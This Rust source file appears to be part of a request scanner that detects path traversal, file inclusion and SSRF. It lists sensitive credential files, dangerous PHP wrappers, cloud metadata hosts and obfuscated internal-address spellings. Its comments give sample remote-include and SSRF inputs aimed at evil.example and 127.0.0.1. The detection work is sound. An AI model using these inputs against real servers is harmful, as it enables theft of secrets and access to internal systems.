//! The other attack classes: file access, remote inclusion, SSRF, JNDI
//! lookups, template injection, XXE, NoSQL operators, CRLF and mail header
//! injection, LDAP filters, SSI, deserialization markers, shellshock,
//! prototype pollution, open redirects, PHP/Java/other code injection.
//!
//! Each check reads the decoded value in its own grammar (a URL and its
//! host, a `${...}` lookup tree, a template expression, a path after
//! normalisation) rather than matching a keyword anywhere.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::gate;
use super::points::Kind;
use super::sqli::Found;

/// Where a value came from, as the checks need it.
pub struct Ctx<'a> {
    pub kind: Kind,
    /// The point name (`query.url`, `header.User-Agent`, ...).
    pub name: &'a str,
    pub in_url: bool,
    /// The request's Host (port included as sent; empty when absent).
    pub host: &'a str,
}

/// One finding of a class.
pub type ClassFound = (&'static str, &'static str, f32);

const SENSITIVE_FILES: &[&str] = &[
    "etc/passwd",
    "etc/shadow",
    "etc/group",
    "etc/hosts",
    "etc/issue",
    "etc/os-release",
    "etc/motd",
    "etc/crontab",
    "etc/sudoers",
    "etc/apache2",
    "etc/httpd",
    "etc/nginx",
    "etc/mysql",
    "proc/self",
    "proc/version",
    "proc/cpuinfo",
    "proc/net",
    "windows/win.ini",
    "win.ini",
    "boot.ini",
    "system32",
    "inetpub",
    "web-inf/",
    "meta-inf/",
    "web.config",
    ".htaccess",
    ".htpasswd",
    ".ssh/",
    "id_rsa",
    "authorized_keys",
    ".bash_history",
    ".bashrc",
    ".env",
    ".git/",
    ".svn/",
    "wp-config",
    "config.php",
    "localsettings.php",
    "var/log/",
    ".aws/credentials",
    "usr/local/",
    "/root/",
    "/home/",
    "sam",
    "system.ini",
    "php.ini",
    "my.cnf",
    "httpd.conf",
    ".history",
    ".docker/",
    ".kube/",
    ".gnupg/",
];

/// One automaton over [`SENSITIVE_FILES`]: one pass per value, not one per name.
static SENSITIVE: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(SENSITIVE_FILES).ok());

const WRAPPERS: &[&str] = &[
    "php://",
    "phar://",
    "zip://",
    "zlib://",
    "glob://",
    "expect://",
    "data://",
    "file://",
    "compress.zlib://",
    "compress.bzip2://",
    "ogg://",
    "rar://",
    "jar:file:",
    "netdoc:",
    "ssh2.shell://",
    "ssh2.exec://",
    "ssh2.tunnel://",
    "ssh2.sftp://",
    "ssh2.scp://",
];

/// `\` as `/`, `/./` collapsed, lower case.
fn norm_path(s: &str) -> String {
    let mut out = s.to_ascii_lowercase().replace('\\', "/");
    while out.contains("/./") {
        out = out.replace("/./", "/");
    }
    out
}

/// Path traversal and local file inclusion.
pub fn files(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if !s.contains(['.', '/', '\\', ':']) {
        return None;
    }
    if let Some(f) = unc_include(s, cx) {
        return Some(f);
    }
    let p = norm_path(s);
    // Filters that strip `../` once leave `....//` as `../`.
    // (Most values have no `..` at all: one scan instead of four.)
    let ups = if memchr::memmem::find(p.as_bytes(), b"..").is_some() {
        p.matches("../").count()
            + p.matches("..;/").count()
            + p.matches("..../").count()
            + usize::from(p.ends_with("/.."))
    } else {
        0
    };
    let sensitive = SENSITIVE.as_ref().is_some_and(|ac| {
        ac.find_overlapping_iter(p.as_str()).any(|m| {
            let f = SENSITIVE_FILES
                .get(m.pattern().as_usize())
                .copied()
                .unwrap_or("");
            // The file name must end there (`.env` not `.environment`).
            let ends = f.ends_with('/')
                || p.as_bytes()
                    .get(m.end())
                    .is_none_or(|c| !c.is_ascii_alphanumeric());
            ends && (f != "sam" || p.ends_with("/sam"))
        })
    });
    if ups > 0 && sensitive {
        return Some(("ptrav", "ptrav.sensitive_file", 0.95));
    }
    // `0x2e.%000x2f`, `0x5c0x2e./`: dots and slashes spelled as hex so a
    // filter looking for `../` misses them; no path spells them so.
    if memchr::memmem::find(p.as_bytes(), b"0x2e").is_some() && hex_traversal(&p) {
        return Some(("ptrav", "ptrav.hex_spelled", 0.85));
    }
    if p.contains(':') {
        for w in WRAPPERS {
            if let Some(at) = p.find(w) {
                // A page opened from a file (`Origin: file://`, Cordova's
                // `Referer: file:///android_asset/...`) is where the browser
                // came from, not a file the server opens.
                let page = *w == "file://" && browser_origin(cx);
                if (at == 0 || !p.as_bytes()[at - 1].is_ascii_alphanumeric()) && !page {
                    return Some(("lfi", "lfi.wrapper", 0.9));
                }
            }
        }
    }
    // A browser sends an upload's base name only: a `..` in it climbs out of
    // the upload directory (`../1.7z`, `..\shell.php`).
    if cx.kind == Kind::Filename && p.split('/').any(|seg| seg == ".." || seg == "..;") {
        return Some(("ptrav", "ptrav.upload_name", 0.8));
    }
    if cx.kind == Kind::Path {
        // Climbing above the root once the path is resolved.
        let mut depth = 0i32;
        for seg in p.split('/') {
            match seg {
                "" | "." => {}
                ".." | "..;" => {
                    depth -= 1;
                    if depth < 0 {
                        return Some(("ptrav", "ptrav.above_root", 0.9));
                    }
                }
                _ => depth += 1,
            }
        }
    }
    // Three levels up with no sensitive target. Two (`../../lib/x.py`,
    // `../../design/tokens.json`) is a build tool's asset list or a stack
    // trace's relative frame.
    if ups >= 3 {
        return Some(("ptrav", "ptrav.deep", 0.8));
    }
    if sensitive
        && matches!(
            cx.kind,
            Kind::Value | Kind::Cookie | Kind::Filename | Kind::Path | Kind::Segment
        )
    {
        let abs = p.starts_with('/') || p.starts_with("c:/") || p.starts_with("file:");
        if abs
            && (p.starts_with("/etc/")
                || p.starts_with("/proc/")
                || p.starts_with("c:/")
                || p.starts_with("file:")
                || p.contains("/.ssh/")
                || p.contains("win.ini"))
        {
            return Some(("lfi", "lfi.absolute_file", 0.8));
        }
    }
    if ups >= 1 && (p.contains("\0") || p.contains("%00")) {
        return Some(("ptrav", "ptrav.null_byte", 0.8));
    }
    // A parameter that is a relative path climbing out with Windows or
    // Tomcat separators (`..\\boot.ini`, `..;/`): no link or prose starts so.
    if cx.kind == Kind::Value
        && (s.starts_with("..\\") || s.starts_with("..;"))
        && s.len() < 256
        && !s.contains(char::is_whitespace)
    {
        return Some(("ptrav", "ptrav.relative", 0.7));
    }
    // The kernel's pseudo files anywhere in the path (`/x/proc/interrupts`).
    let path_like = cx.kind == Kind::Path
        || matches!(cx.kind, Kind::Value | Kind::Key)
            && p.len() < 256
            && !p.contains(char::is_whitespace);
    let kernel_dir = || {
        memchr::memchr_iter(b'/', p.as_bytes()).take(64).any(|at| {
            let r = p.as_bytes().get(at + 1..).unwrap_or(&[]);
            r.starts_with(b"proc/") || r.starts_with(b"sys/")
        })
    };
    if path_like && kernel_dir() {
        if let Some(f) = pseudo_file(&p) {
            return Some(f);
        }
    }
    // A source-code host's views of a repository's files
    // (`/acme/web/blob/main/.github/workflows/ci.yml`, a GitLab
    // `/-/raw/main/db/schema.sql`, GitHub's API `/contents/.env.example`):
    // the path after the view names a file in the repository, not one of
    // this server's.
    let mut p = p;
    if cx.kind == Kind::Path {
        if let Some(at) = repo_file_view(&p) {
            p.truncate(at);
        }
    }
    if cx.kind == Kind::Path {
        // A hidden file or directory (`/.env`, `/.claude/settings.json`):
        // never content a site serves, except `/.well-known/`.
        if p.split('/').any(|seg| {
            seg.len() > 1
                && seg.starts_with('.')
                && seg != ".."
                && seg != "..;"
                && seg != ".well-known"
        }) {
            return Some(("lfi", "lfi.hidden_file", 0.6));
        }
        // Dev-server file access (`/@fs/`), logs and dumps left in the web root.
        let last = p.rsplit('/').next().unwrap_or("");
        if p.starts_with("/@fs/")
            || p.starts_with("/@id/")
            || [
                ".log", ".sql", ".sql.zip", ".sql.gz", ".bak", ".old", ".swp", ".orig",
            ]
            .iter()
            .any(|e| last.len() > e.len() && last.ends_with(e))
        {
            return Some(("lfi", "lfi.restricted_file", 0.6));
        }
    }
    if sensitive
        && matches!(cx.kind, Kind::Header | Kind::Value | Kind::Cookie)
        && (p.starts_with("/proc/")
            || p.starts_with("/etc/") && cx.kind == Kind::Header && !p.contains(' ')
            || p.starts_with("/sys/")
            || p.starts_with("/root/")
            || p.starts_with(".ssh/")
            || ["/.ssh/", "/.docker/", "/.kube/", "/.aws/", "/.gnupg/"]
                .iter()
                .any(|d| p.contains(d)))
    {
        return Some(("lfi", "lfi.absolute_file", 0.75));
    }
    if matches!(cx.kind, Kind::Value | Kind::Header)
        && (p.starts_with("/sys/") || p.starts_with("/proc/sys/"))
        && p.len() < 128
        && !p.contains(' ')
    {
        return Some(("lfi", "lfi.absolute_file", 0.7));
    }
    None
}

/// Where the repository file path starts in `p`, when `p` is a source-code
/// host's view of a file: after `/blob/REF/`, `/tree/REF/`, `/raw/REF/`,
/// `/blame/REF/`, `/edit/REF/` (GitHub, GitLab, Gitea, Bitbucket's `/src/REF/`)
/// behind an owner and a repository, or after GitHub's API `/contents/`.
fn repo_file_view(p: &str) -> Option<usize> {
    // Segments with the offset of the `/` before each; the path's own
    // segments (not `-` nor empty) seen so far name the owner and repository.
    let mut segs = p.match_indices('/').take(32).map(|(at, _)| {
        (
            at,
            p.get(at + 1..)
                .unwrap_or("")
                .split('/')
                .next()
                .unwrap_or(""),
        )
    });
    let mut named = 0;
    while let Some((_, seg)) = segs.next() {
        let (with_ref, need) = match seg {
            "" | "-" => continue,
            "blob" | "tree" | "raw" | "blame" | "edit" | "src" => (true, 2),
            "contents" => (false, 3),
            _ => {
                named += 1;
                continue;
            }
        };
        if named >= need {
            if with_ref {
                segs.next();
            }
            return segs.next().map(|(at, _)| at);
        }
        named += 1;
    }
    None
}

/// Whether hex spellings of `.`, `/` and `\\` (with `%00` dropped) make a
/// `../` climb that the plain text does not have.
fn hex_traversal(p: &str) -> bool {
    let d = p
        .replace("%00", "")
        .replace("0x2e", ".")
        .replace("0x2f", "/")
        .replace("0x5c", "/");
    d.matches("../").count() > p.matches("../").count()
}

/// `/proc/<entry>` and `/sys/<tree>` as path segments: the kernel's own
/// files (`/proc/interrupts`, `/sys/class/net`), no web content.
fn pseudo_file(p: &str) -> Option<ClassFound> {
    const PROC: &[&str] = &[
        "self",
        "version",
        "cpuinfo",
        "meminfo",
        "interrupts",
        "mounts",
        "net",
        "cmdline",
        "environ",
        "sched_debug",
        "kallsyms",
        "modules",
        "partitions",
        "stat",
        "uptime",
        "loadavg",
        "devices",
        "filesystems",
        "iomem",
        "ioports",
        "kcore",
        "swaps",
        "sys",
    ];
    const SYS: &[&str] = &[
        "class",
        "kernel",
        "devices",
        "block",
        "bus",
        "firmware",
        "fs",
        "module",
        "power",
        "hypervisor",
    ];
    for (root, names) in [("/proc/", PROC), ("/sys/", SYS)] {
        for (at, _) in p.match_indices(root).take(4) {
            let rest = p.get(at + root.len()..).unwrap_or("");
            let seg = rest.split(['/', '?', '#']).next().unwrap_or("");
            let pid = !seg.is_empty() && seg.bytes().all(|c| c.is_ascii_digit());
            if names.contains(&seg) || pid && rest.len() > seg.len() {
                return Some(("lfi", "lfi.pseudo_file", 0.75));
            }
        }
    }
    None
}

/// The host of a URL that starts at `url` (after `scheme://`), without userinfo or port.
fn url_host(after_scheme: &str) -> &str {
    // `\\l\\o\\c...`: backslashes escaping each letter of the host.
    let escaped = after_scheme.starts_with('\\')
        && after_scheme.as_bytes().get(1..).is_some_and(|r| {
            r.iter()
                .find(|c| **c != b'\\')
                .is_some_and(|c| c.is_ascii_alphanumeric())
        });
    let stops: &[char] = if escaped {
        &['/', '?', '#']
    } else {
        &['/', '?', '#', '\\']
    };
    let end = after_scheme.find(stops).unwrap_or(after_scheme.len());
    let auth = after_scheme.get(..end).unwrap_or("");
    let host = auth.rsplit('@').next().unwrap_or(auth);
    if let Some(h) = host.strip_prefix('[') {
        return h.split(']').next().unwrap_or(h);
    }
    host.rsplit_once(':')
        .filter(|(_, port)| port.bytes().all(|c| c.is_ascii_digit()))
        .map_or(host, |(h, _)| h)
}

/// The host a parser finds when only `/` ends the authority (`#`, `?`,
/// blanks and earlier `@`s all fall into the user info).
fn confused_host(after_scheme: &str) -> &str {
    let end = after_scheme.find('/').unwrap_or(after_scheme.len());
    let auth = after_scheme.get(..end).unwrap_or("");
    let Some((_, host)) = auth.rsplit_once('@') else {
        return "";
    };
    let host = host.trim();
    host.rsplit_once(':')
        .filter(|(_, port)| port.bytes().all(|c| c.is_ascii_digit()))
        .map_or(host, |(h, _)| h)
}

/// Parses an IPv4 address in any spelling inet_aton accepts: dotted with
/// 1-4 parts, each decimal, `0x` hex or `0` octal (`2130706433`, `0x7f.1`, `0177.0.0.1`).
pub fn lenient_ipv4(h: &str) -> Option<Ipv4Addr> {
    let parts: Vec<&str> = h.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return None;
    }
    let mut nums = Vec::with_capacity(4);
    for p in &parts {
        let v = if let Some(x) = p.strip_prefix("0x").or(p.strip_prefix("0X")) {
            u64::from_str_radix(x, 16).ok()?
        } else if p.len() > 1 && p.starts_with('0') {
            u64::from_str_radix(p, 8).ok()?
        } else {
            p.parse::<u64>().ok()?
        };
        nums.push(v);
    }
    let (last, head) = nums.split_last()?;
    let mut v: u64 = 0;
    for (i, n) in head.iter().enumerate() {
        if *n > 255 {
            return None;
        }
        v |= n << (24 - 8 * i);
    }
    let room = 32 - 8 * head.len() as u32;
    if *last >= 1u64 << room {
        return None;
    }
    Some(Ipv4Addr::from((v | last) as u32))
}

/// Why a host is internal: `metadata`, `loopback`, `private`, `link_local`, ...
fn internal_host(host: &str) -> Option<&'static str> {
    let folded = fold_host(host);
    let h = folded.as_deref().unwrap_or(host).trim_end_matches('.');
    let h = h.to_ascii_lowercase();
    // Google, AWS's name, Equinix Metal (Packet), Oracle, Alibaba, DigitalOcean, Hetzner.
    if matches!(
        h.as_str(),
        "metadata.google.internal"
            | "metadata"
            | "instance-data"
            | "instance-data.ec2.internal"
            | "metadata.packet.net"
            | "metadata.platformequinix.com"
            | "metadata.oraclecloud.com"
            | "metadata.tencentyun.com"
    ) {
        return Some("metadata");
    }
    if LOOPBACK_NAMES.contains(&h.as_str())
        || h.ends_with(".localhost")
        || h.ends_with(".docker.internal")
        || h.ends_with(".containers.internal")
        || h.ends_with(".svc.cluster.local")
    {
        return Some("loopback");
    }
    if let Some(ip) = lenient_ipv4(&h) {
        return v4_kind(ip);
    }
    if let Some(kind) = wildcard_dns(&h) {
        return Some(kind);
    }
    // One integer past 32 bits: resolvers that keep the low 32 bits
    // (`7147006462`, `0x41414141A9FEA9FE`) reach the address it wraps to.
    let wrapped = if let Some(x) = h.strip_prefix("0x") {
        u128::from_str_radix(x, 16).ok()
    } else if h.len() <= 30 && h.bytes().all(|c| c.is_ascii_digit()) {
        h.parse::<u128>().ok()
    } else {
        None
    };
    if let Some(v) = wrapped.filter(|v| *v > u128::from(u32::MAX)) {
        return v4_kind(Ipv4Addr::from(v as u32));
    }
    let h = h.split('%').next().unwrap_or(&h);
    if let Ok(ip) = h.parse::<Ipv6Addr>() {
        if let Some(v4) = ip.to_ipv4_mapped() {
            return v4_kind(v4);
        }
        if ip.is_loopback() || ip.is_unspecified() {
            return Some("loopback");
        }
        let seg = ip.segments();
        if seg[0] == 0xfd00 && seg[1] == 0x0ec2 {
            return Some("metadata");
        }
        if seg[0] & 0xfe00 == 0xfc00 {
            return Some("private");
        }
        if seg[0] & 0xffc0 == 0xfe80 {
            return Some("link_local");
        }
    }
    None
}

/// Wildcard DNS services answer with the address their names spell
/// (`10.0.0.1.nip.io`, `app-127-0-0-1.sslip.io`, `0a000001.nip.io`), and
/// every name under the loopback ones (`app.localtest.me`) is 127.0.0.1:
/// the kind of the address a lower-cased host `h` resolves to that way.
fn wildcard_dns(h: &str) -> Option<&'static str> {
    if [".localtest.me", ".lvh.me"].iter().any(|z| h.ends_with(z)) {
        return Some("loopback");
    }
    let name = [".nip.io", ".sslip.io", ".xip.io", ".traefik.me"]
        .iter()
        .find_map(|z| h.strip_suffix(z))?;
    // The last four dotted labels (`app.10.0.0.1`).
    let dotted = name.rsplitn(5, '.').take(4).collect::<Vec<_>>();
    let last = dotted.first().copied().unwrap_or("");
    let ip = (dotted.len() == 4)
        .then(|| {
            let v: Vec<&str> = dotted.iter().rev().copied().collect();
            v.join(".").parse::<Ipv4Addr>().ok()
        })
        .flatten()
        // Dashes in the last label (`app-10-0-0-1`).
        .or_else(|| {
            let parts: Vec<&str> = last.rsplitn(5, '-').take(4).collect();
            (parts.len() == 4)
                .then(|| {
                    let v: Vec<&str> = parts.iter().rev().copied().collect();
                    v.join(".").parse::<Ipv4Addr>().ok()
                })
                .flatten()
        })
        // Eight hex digits (`0a000001`).
        .or_else(|| {
            let hex = last.rsplit('-').next().unwrap_or("");
            (hex.len() == 8)
                .then(|| u32::from_str_radix(hex, 16).ok().map(Ipv4Addr::from))
                .flatten()
        })?;
    v4_kind(ip)
}

/// Names that resolve to the host itself or to a container's host.
const LOOPBACK_NAMES: &[&str] = &[
    "localhost",
    "localhost4",
    "localhost6",
    "localhost.localdomain",
    "localhost4.localdomain4",
    "localhost6.localdomain6",
    "ip6-localhost",
    "ip6-loopback",
    "ipv6-localhost",
    "ipv6-loopback",
    "localtest.me",
    "lvh.me",
    "kubernetes.default",
    "kubernetes.default.svc",
];

/// A host spelled with characters a resolver folds to ASCII: circled and
/// fullwidth digits and letters, ideographic full stops, backslashes
/// (`①②⑦.⓪.⓪.①`, `169。254。169。254`, `\\l\\o\\c\\a\\l\\h\\o\\s\\t`).
fn fold_host(host: &str) -> Option<String> {
    if host.is_ascii() && !host.contains('\\') {
        return None;
    }
    let mut out = String::with_capacity(host.len());
    for c in host.chars().take(256) {
        let u = c as u32;
        let m = match u {
            0x2460..=0x2468 => char::from_u32(u - 0x2460 + u32::from(b'1')),
            0x24EA | 0x24FF => Some('0'),
            0x24B6..=0x24CF => char::from_u32(u - 0x24B6 + u32::from(b'a')),
            0x24D0..=0x24E9 => char::from_u32(u - 0x24D0 + u32::from(b'a')),
            0xFF10..=0xFF19 => char::from_u32(u - 0xFF10 + u32::from(b'0')),
            0xFF21..=0xFF3A => char::from_u32(u - 0xFF21 + u32::from(b'a')),
            0xFF41..=0xFF5A => char::from_u32(u - 0xFF41 + u32::from(b'a')),
            0x3002 | 0xFF0E | 0xFF61 => Some('.'),
            0x5C => None,
            _ => Some(c),
        };
        out.extend(m);
    }
    Some(out)
}

fn v4_kind(ip: Ipv4Addr) -> Option<&'static str> {
    let o = ip.octets();
    if o == [169, 254, 169, 254] || o == [100, 100, 100, 200] || o == [192, 0, 0, 192] {
        Some("metadata")
    } else if ip.is_loopback() || ip.is_unspecified() {
        Some("loopback")
    } else if ip.is_private() || (o[0] == 100 && (64..128).contains(&o[1])) {
        Some("private")
    } else if ip.is_link_local() {
        Some("link_local")
    } else {
        None
    }
}

/// A URL to an internal host that is no request for one: a Referer or
/// Origin header (the page the browser came from: on an intranet, an
/// internal address, and no server fetches it), or a URL to the very
/// host the request was sent to (`returnUrl=http://10.0.0.5/home` on
/// 10.0.0.5), which reaches nothing the client could not reach itself.
/// Loopback never counts as the same host: a Host header of `127.0.0.1`
/// is the attacker's to write.
fn ordinary_internal_url(kind: &str, host: &str, cx: &Ctx<'_>) -> bool {
    if kind == "metadata" {
        return false;
    }
    browser_origin(cx)
        || browser_redirect(cx)
        || kind != "loopback" && !host.is_empty() && host.eq_ignore_ascii_case(url_host(cx.host))
}

/// A parameter whose URL the server sends the browser to and never fetches:
/// OAuth's `redirect_uri` (a native app's is a loopback address by RFC
/// 8252: `http://127.0.0.1:53682/`), `post_logout_redirect_uri`, and the
/// return-to links of logins. An internal host there is the client's own.
/// (`callback`, `webhook`, `url` and the like are fetched: not these.)
fn browser_redirect(cx: &Ctx<'_>) -> bool {
    if cx.kind == Kind::Header {
        return false;
    }
    let param = cx.name.rsplit('.').next().unwrap_or("");
    [
        "redirect_uri",
        "redirect_url",
        "post_logout_redirect_uri",
        "return_to",
        "returnto",
        "return_url",
        "returnurl",
    ]
    .iter()
    .any(|n| param.eq_ignore_ascii_case(n))
}

/// Whether the text before a URL at `at` reads as prose: two words or more
/// separated by blanks (`deploy, then curl `) and none of the marks that
/// make it code or markup (`;iex (iwr `, `url=`, `<a href="`).
fn prose_before(s: &str, at: usize) -> bool {
    let head = s.get(..at).unwrap_or("");
    if head.contains([';', '|', '&', '$', '(', ')', '{', '}', '<', '>', '=']) {
        return false;
    }
    head.split_whitespace()
        .filter(|w| w.bytes().any(|c| c.is_ascii_alphabetic()))
        .count()
        >= 2
}

/// A Referer or Origin header: where the browser came from. Hybrid mobile
/// and desktop apps send their own schemes there (`capacitor://localhost`,
/// `ionic://localhost`, `tauri://localhost`, `file://`).
fn browser_origin(cx: &Ctx<'_>) -> bool {
    cx.kind == Kind::Header
        && ["header.referer", "header.origin"]
            .iter()
            .any(|n| cx.name.eq_ignore_ascii_case(n))
}

const SSRF_SCHEMES: &[&str] = &[
    "gopher://",
    "dict://",
    "ldap://",
    "tftp://",
    "sftp://",
    "jar:",
    "netdoc://",
];

/// SSRF and remote file inclusion, from URLs in the value.
pub fn urls(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    // Both needles hold a `:` (most values have none).
    if memchr::memchr(b':', s.as_bytes()).is_none()
        || !gate::has(s, "://") && !gate::has(s, ":\\\\")
    {
        return bare_url(s);
    }
    let lower = s.to_ascii_lowercase();
    let mut found: Option<ClassFound> = None;
    for (at, _) in lower.match_indices("://").take(8) {
        let scheme_start = lower
            .get(..at)
            .unwrap_or("")
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
            .map_or(0, |p| p + 1);
        let scheme = lower.get(scheme_start..at).unwrap_or("");
        let rest = s.get(at + 3..).unwrap_or("");
        let host = url_host(rest);
        let whole_value =
            scheme_start == 0 || s.get(..scheme_start).is_some_and(|p| p.trim().is_empty());
        // `${jndi:ldap://...}` is Log4Shell's, not a URL the server fetches directly.
        let jndi = lower
            .get(..scheme_start)
            .is_some_and(|p| p.ends_with("jndi:") || p.ends_with(':'));
        let f: Option<ClassFound> = if jndi {
            None
        } else if matches!(scheme, "gopher" | "dict" | "ldap" | "tftp" | "netdoc") {
            Some(("ssrf", "ssrf.scheme", 0.85))
        } else if matches!(
            scheme,
            "http" | "https" | "ftp" | "ftps" | "file" | "ws" | "wss"
        ) {
            match internal_host(host) {
                Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.95)),
                Some(kind) if ordinary_internal_url(kind, host, cx) => None,
                Some(_) if scheme != "file" && whole_value => {
                    Some(("ssrf", "ssrf.internal_host", 0.8))
                }
                // Inside prose (`then curl http://localhost:8080/health` in
                // a chat message) a URL is text about a machine, not one
                // the server is handed to fetch.
                Some(_) if scheme != "file" && !prose_before(s, scheme_start) => {
                    Some(("ssrf", "ssrf.internal_host", 0.6))
                }
                // `http://a.com:80 &@a.com:80# @127.0.0.1:22/`: parsers that
                // end the authority at `/` only see the host after the last `@`.
                _ if rest.contains('@')
                    && internal_host(confused_host(rest)).is_some_and(|k| k != "metadata") =>
                {
                    Some(("ssrf", "ssrf.parser_confusion", 0.8))
                }
                _ if whole_value && scheme != "file" => {
                    rfi(s.get(scheme_start..).unwrap_or(""), host, cx)
                }
                _ => None,
            }
        } else if scheme.len() >= 2
            && scheme
                .bytes()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
            && scheme != "file"
        {
            // Any other fetcher scheme (`rsync://`, `imap://`, `ssh://`) to an internal host.
            match internal_host(host) {
                Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.9)),
                Some(kind) if ordinary_internal_url(kind, host, cx) => None,
                Some(_) if whole_value => Some(("ssrf", "ssrf.internal_host", 0.7)),
                _ => None,
            }
        } else {
            None
        };
        if let Some(f) = f {
            if found.is_none_or(|g| f.2 > g.2) {
                found = Some(f);
            }
        }
    }
    if found.is_none() && SSRF_SCHEMES.iter().any(|k| lower.starts_with(k)) {
        found = Some(("ssrf", "ssrf.scheme", 0.8));
    }
    found
}

/// A whole value that is a URL without `//` (`http:127.0.0.1`,
/// `http:/2852039166`) or a scheme-less internal host with a path
/// (`localhost/`, `host.docker.internal/admin`).
fn bare_url(s: &str) -> Option<ClassFound> {
    let t = s.trim();
    if t.len() > 2048 || t.contains(' ') {
        return None;
    }
    // The scheme is matched in place; only what follows one is lower-cased
    // (as the whole value was: lower-casing keeps every byte offset).
    for scheme in ["http:", "https:"] {
        let rest = t
            .get(..scheme.len())
            .filter(|p| p.eq_ignore_ascii_case(scheme))
            .and_then(|_| t.get(scheme.len()..));
        if let Some(rest) = rest.map(str::to_ascii_lowercase) {
            let host = url_host(rest.trim_start_matches(['/', '\\']));
            return match internal_host(host) {
                Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.9)),
                Some(_) => Some(("ssrf", "ssrf.internal_host", 0.7)),
                None => None,
            };
        }
    }
    let (host, path) = t.split_once('/')?;
    // A host name (not a first path segment like `metadata/x`): dotted or a loopback alias.
    let named = host.split(':').next().is_some_and(|h| {
        h.bytes().any(|c| c.is_ascii_alphabetic())
            && (h.contains('.') || LOOPBACK_NAMES.iter().any(|n| n.eq_ignore_ascii_case(h)))
    });
    if host.is_empty() || !named || path.contains("://") {
        return None;
    }
    match internal_host(url_host(host)) {
        Some("metadata") => Some(("ssrf", "ssrf.cloud_metadata", 0.8)),
        Some(_) => Some(("ssrf", "ssrf.internal_host", 0.6)),
        None => None,
    }
}

const INCLUDE_PARAMS: &[&str] = &[
    "file",
    "page",
    "include",
    "inc",
    "path",
    "template",
    "tpl",
    "doc",
    "document",
    "folder",
    "root",
    "pg",
    "style",
    "dir",
    "lang",
    "language",
    "module",
    "mod",
    "conf",
    "config",
    "mosconfig_absolute_path",
    "_conf[path]",
    "gallery_basedir",
    "base_path",
    "basepath",
    "show",
    "view",
    "content",
    "cat",
    "action",
    "load",
    "site",
    "src",
];

/// Parameters of known remote-file-include bugs (Mambo/Joomla, Geeklog,
/// Gallery, ...): they hold a local base path, so any URL there is an include.
const RFI_PARAMS: &[&str] = &[
    "mosconfig_absolute_path",
    "_conf[path]",
    "_server[document_root]",
    "gallery_basedir",
    "path[docroot]",
    "appserv_root",
    "config[root_dir]",
];

/// Whether `url`'s path names a script or a text file an include runs.
fn script_file(url: &str) -> bool {
    let path = url
        .split(['?', '#'])
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    [
        ".txt", ".php", ".inc", ".phtml", ".asp", ".jsp", ".sh", ".pl", ".gif?",
    ]
    .iter()
    .any(|e| path.ends_with(e))
}

/// A UNC path to a script as the whole value of an include parameter
/// (`page=\\evil.example\share\x.php`): PHP on Windows includes it
/// over SMB, a remote include with no URL scheme. A file share's
/// document (`path=\\nas\finance\q3.xlsx`) is none.
fn unc_include(s: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    let rest = s.strip_prefix("\\\\")?;
    let param = cx
        .name
        .rsplit('.')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    let host = rest.split(['\\', '/']).next().unwrap_or("");
    (matches!(cx.kind, Kind::Value)
        && INCLUDE_PARAMS.contains(&param.as_str())
        && !host.is_empty()
        && rest.contains(['\\', '/'])
        && script_file(rest))
    .then_some(("rfi", "rfi.unc_include", 0.7))
}

/// A URL that is the whole value of a parameter, judged as a remote include.
fn rfi(url: &str, host: &str, cx: &Ctx<'_>) -> Option<ClassFound> {
    if matches!(cx.kind, Kind::Header) {
        return None;
    }
    let param = cx
        .name
        .rsplit('.')
        .next()
        .unwrap_or("")
        .to_ascii_lowercase();
    if RFI_PARAMS.contains(&param.as_str()) {
        return Some(("rfi", "rfi.known_param", 0.8));
    }
    let ip_host = lenient_ipv4(host).is_some() || host.parse::<Ipv6Addr>().is_ok();
    let trailing_q = url.trim_end().ends_with('?') || url.trim_end().ends_with("%3f");
    let script = script_file(url);
    if trailing_q {
        return Some(("rfi", "rfi.trailing_query", 0.8));
    }
    if ip_host {
        return Some(("rfi", "rfi.ip_host", 0.7));
    }
    if script && INCLUDE_PARAMS.contains(&param.as_str()) {
        return Some(("rfi", "rfi.include_param", 0.7));
    }
    // The rest needs the request's own host to compare with.
    let own = cx.host.trim().to_ascii_lowercase();
    let own = own
        .rsplit_once(':')
        .filter(|(_, p)| p.bytes().all(|c| c.is_ascii_digit()))
        .map_or(own.as_str(), |(h, _)| h);
    let h = host.to_ascii_lowercase();
    if own.is_empty() || h.is_empty() || h == own || same_site(&h, own) {
        return None;
    }
    // `https://example.com.evil.com/` sent to example.com: the own name
    // as the first labels of a foreign host, made to pass a prefix check.
    if h.strip_prefix(own).is_some_and(|r| r.starts_with('.')) {
        return Some(("rfi", "rfi.deceptive_host", 0.75));
    }
    // A script or text file on another site in a parameter not named for
    // URLs (`x=https://evil.example/shell.txt`): fields that carry links by
    // design (homepage, avatar, callback, share, ...) stay out.
    if script && !url_param(&param) {
        return Some(("rfi", "rfi.offsite_script", 0.7));
    }
    None
}

/// Parameter names that carry a URL by design (links, images, hooks, redirects).
fn url_param(param: &str) -> bool {
    let base = param
        .trim_end_matches(']')
        .rsplit('[')
        .next()
        .unwrap_or(param);
    matches!(
        base,
        "u" | "to" | "ref" | "next" | "share" | "source" | "home"
    ) || [
        "url",
        "uri",
        "link",
        "href",
        "src",
        "site",
        "homepage",
        "avatar",
        "image",
        "img",
        "icon",
        "logo",
        "photo",
        "picture",
        "thumb",
        "feed",
        "rss",
        "callback",
        "hook",
        "redirect",
        "return",
        "referer",
        "referrer",
        "origin",
        "target",
        "dest",
        "continue",
        "endpoint",
        "server",
        "host",
        "domain",
        "profile",
        "web",
        "canonical",
        "permalink",
    ]
    .iter()
    .any(|k| base.contains(k))
}

/// Resolves Log4j lookups innermost first (`${lower:j}` = `j`, `${::-n}` =
/// `n`, `${env:X:-d}` = `d`) and reports a `jndi:` lookup in the result.
